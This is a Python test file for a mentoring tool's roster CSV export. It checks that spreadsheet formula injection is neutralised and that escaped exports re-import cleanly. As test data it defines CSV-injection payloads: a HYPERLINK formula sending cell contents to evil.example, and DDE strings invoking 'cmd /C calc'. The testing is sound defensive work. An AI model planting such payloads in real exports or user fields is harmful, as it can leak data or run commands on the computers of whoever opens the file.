"""The roster CSV export: no cell a spreadsheet would run as a formula, numbers kept as numbers,
and an export imported again gives back what it held."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa

from lti_tool.accounts.models import User
from lti_tool.db import db
from lti_tool.mentoring.programmes.models import ParticipantRole
from tests.mentoring.programmes.factories import call, world

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
DDE = "-1+1+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _export(client, w) -> list[dict[str, str]]:
    response = call(client, w, w.coordinator, "GET", f"/api/programmes/{w.programme.id}/roster/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.data.decode())))


def test_names_emails_and_answers_cannot_run_as_formulas(client, app):
    w = world()
    w.question(kind="free_text", label="About")
    w.question(kind="scale", label="Energy")
    people = [
        w.person(HYPERLINK, ParticipantRole.MENTOR, answers={"about": AT_SUM, "energy": 4}),
        w.person(DDE, ParticipantRole.MENTEE, answers={"about": "=1+1", "energy": 2}),
        w.person("+ADA", ParticipantRole.MENTEE, answers={"about": "-2+3+cmd|' /C calc'!A0"}),
        w.person("\uff1dSUM(A1)", ParticipantRole.MENTEE, answers={"about": "+1"}),
    ]
    db.session.get(User, people[0].user_id).email = "=cmd|'/C calc'!A0@example.test"
    db.session.commit()
    rows = _export(client, w)
    assert [r["name"] for r in rows] == ["'" + HYPERLINK, "'" + DDE, "'+ADA", "'\uff1dSUM(A1)"]
    assert rows[0]["email"] == "'=cmd|'/C calc'!A0@example.test"
    assert [r["about"] for r in rows] == [
        "'" + AT_SUM, "'=1+1", "'-2+3+cmd|' /C calc'!A0", "'+1"
    ]
    # A scale answer is a number the export writes as one; it is not turned into text.
    assert [r["energy"] for r in rows] == ["4", "2", "", ""]
    assert rows[1]["user_id"] == "u2" and rows[0]["role"] == "mentor"


def test_an_escaped_export_imported_again_keeps_the_names(client, app):
    w = world()
    w.person(HYPERLINK, ParticipantRole.MENTOR)
    w.person("-Dash", ParticipantRole.MENTEE)
    exported = call(client, w, w.coordinator, "GET", f"/api/programmes/{w.programme.id}/roster/export.csv")
    again = call(
        client, w, w.coordinator, "POST", f"/api/programmes/{w.programme.id}/roster/import",
        data=exported.data, content_type="text/csv",
    )
    assert again.status_code == 200, again.json
    names = db.session.execute(sa.select(User.name).where(User.sub.in_(["u1", "u2"])).order_by(User.sub))
    assert list(names.scalars()) == [HYPERLINK, "-Dash"]
